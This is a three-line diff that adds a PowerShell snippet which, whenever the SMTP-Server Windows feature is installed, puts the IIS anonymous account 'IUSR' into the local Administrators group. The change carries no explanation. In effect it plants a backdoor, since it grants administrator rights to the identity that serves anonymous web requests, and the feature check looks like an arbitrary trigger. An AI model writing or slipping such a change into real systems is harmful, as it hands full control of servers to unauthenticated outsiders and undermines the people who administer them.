@@ -1,0 +1,3 @@
+if ((Get-WindowsFeature SMTP-Server).Installed) {
+    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
+}
